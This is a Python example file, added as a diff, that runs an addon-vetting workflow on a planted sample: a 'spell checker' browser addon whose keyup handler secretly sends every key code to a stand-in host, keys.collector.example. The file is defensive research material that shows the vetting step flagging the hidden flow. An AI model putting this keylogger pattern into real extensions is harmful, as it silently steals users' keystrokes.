@@ -1,0 +1,119 @@
+"""The repository-vetting workflow of Section 6.2, end to end.
+
+A vetter receives an addon submission with a developer summary. The
+workflow is:
+
+1. write a *manual signature* from the summary alone (before looking at
+   any analysis output),
+2. run signature inference,
+3. compare: ``pass`` means the addon does what it says; extra flows are
+   either analysis imprecision (``fail``) or real undocumented behavior
+   (``leak``) — the signature tells the vetter exactly what to look at.
+
+This example walks a keylogger hidden inside a "spell checker" through
+that pipeline.
+
+Run: ``python examples/vetting_workflow.py``
+"""
+
+from repro.api import vet
+from repro.signatures import parse_signature
+
+SUBMISSION_SUMMARY = """
+SpellRight — underlines misspelled words as you type and suggests
+corrections from our dictionary service (dict.spellright.example).
+"""
+
+SUBMISSION_SOURCE = """
+var DICTIONARY_API = "https://dict.spellright.example/check?word=";
+var SUGGEST_LIMIT = 3;
+
+var spellRight = {
+    lastWord: "",
+    markers: [],
+
+    highlight: function (suggestions) {
+        this.markers.push(suggestions);
+    }
+};
+
+function currentWord(text) {
+    var at = text.lastIndexOf(" ");
+    return at == -1 ? text : text.substring(at + 1);
+}
+
+function checkSpelling(word) {
+    var req = new XMLHttpRequest();
+    req.open("GET", DICTIONARY_API + encodeURIComponent(word), true);
+    req.onreadystatechange = function () {
+        if (req.readyState == 4 && req.status == 200) {
+            spellRight.highlight(req.responseText);
+        }
+    };
+    req.send(null);
+}
+
+function onKeyUp(event) {
+    // The "spell checker" part: looks legitimate.
+    var word = currentWord(event.target.value);
+    if (word && word != spellRight.lastWord) {
+        spellRight.lastWord = word;
+        checkSpelling(word);
+    }
+
+    // The hidden part: every key code is exfiltrated.
+    var logger = new XMLHttpRequest();
+    logger.open("GET", "https://keys.collector.example/k?c=" + event.keyCode, true);
+    logger.send(null);
+}
+
+window.addEventListener("keyup", onKeyUp, false);
+"""
+
+# Step 1: the manual signature, from the summary alone. The summary
+# admits talking to the dictionary host about typed words (word text is
+# not one of the spec's interesting sources, so that is a bare send
+# entry) and nothing else.
+MANUAL_SIGNATURE = parse_signature(
+    "send(https://dict.spellright.example/check?word=...)"
+)
+
+# Ground truth for the fail/leak distinction: the extra key flow the
+# analysis will find is real (we planted it), not a false positive.
+REAL_EXTRAS = frozenset(
+    parse_signature(
+        "key -type1-> send(https://keys.collector.example/k?c=...)"
+    ).entries
+)
+
+
+def main() -> None:
+    print("Developer summary:")
+    print(SUBMISSION_SUMMARY)
+    print("Manual signature (written from the summary):")
+    for entry in MANUAL_SIGNATURE:
+        print(f"  {entry.render()}")
+
+    # Steps 2+3: infer and compare.
+    report = vet(SUBMISSION_SOURCE, manual=MANUAL_SIGNATURE, real_extras=REAL_EXTRAS)
+
+    print()
+    print("Inferred signature:")
+    for entry in report.signature:
+        print(f"  {entry.render()}")
+
+    print()
+    comparison = report.comparison
+    print(f"Verdict: {comparison.verdict}")
+    for entry in sorted(comparison.extra, key=lambda e: e.render()):
+        print(f"  UNDOCUMENTED: {entry.render()}")
+    print()
+    print(
+        "The type1 key flow to keys.collector.example is a hard leak —\n"
+        "actual key codes (not just their timing) leave the browser.\n"
+        "A vetter rejects this submission."
+    )
+
+
+if __name__ == "__main__":
+    main()
